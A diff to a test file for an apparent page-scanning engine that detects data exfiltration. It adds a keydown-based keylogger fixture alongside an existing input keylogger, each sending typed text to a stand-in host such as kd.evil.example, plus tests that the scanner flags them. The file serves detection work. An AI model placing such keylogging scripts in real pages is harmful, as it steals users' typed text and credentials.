@@ -38,6 +38,10 @@ EXTRA = {
     "after_busy.html": '<p>still <b data-bind="customer.name"></b></p>\n<img src="https://cdn.example.com/logo.png" alt="">\n',
     "typed_keylogger.html": "<input id=q>\n<script>\n  document.getElementById('q').addEventListener('input', (e) => {\n"
                             "    new Image().src = 'https://keys.evil.example/k?v=' + btoa(e.target.value);\n  });\n</script>\n",
+    # Reads keys, not the field's value: only real key events give it the typed text.
+    "keydown_logger.html": "<textarea id=t></textarea>\n<script>\n  let keys = '';\n"
+                           "  document.addEventListener('keydown', (e) => {\n    if (e.key.length === 1) keys += e.key;\n"
+                           "    else if (e.key === 'Enter') new Image().src = 'https://kd.evil.example/k?' + keys;\n  });\n</script>\n",
 }
 BUSY_THEN = ["busy_then.html", "after_busy.html"]  # a busy loop started by the page, then a plain block
 
@@ -99,6 +103,12 @@ def test_delayed_exfiltration_within_the_settle_window(flowui_engine, run):
 def test_typed_text_is_followed_through_base64(flowui_engine, run):
     found = [f for f in by_engine(run["typed_keylogger.html"], flowui_engine.name) if f.rule == "exfil.input-to-url"]
     assert found and found[0].hosts == ["keys.evil.example"] and found[0].evidence["encoding"] == "base64"
+
+
+def test_typing_is_key_by_key(flowui_engine, run):
+    """A keylogger on keydown sees what the review typed: real key events, not a value set at once."""
+    found = [f for f in by_engine(run["keydown_logger.html"], flowui_engine.name) if f.rule == "exfil.input-to-url"]
+    assert found and found[0].hosts == ["kd.evil.example"], run["keydown_logger.html"].findings
 
 
 def test_a_busy_loop_hits_the_time_limit_and_the_run_goes_on(flowui_engine, run):
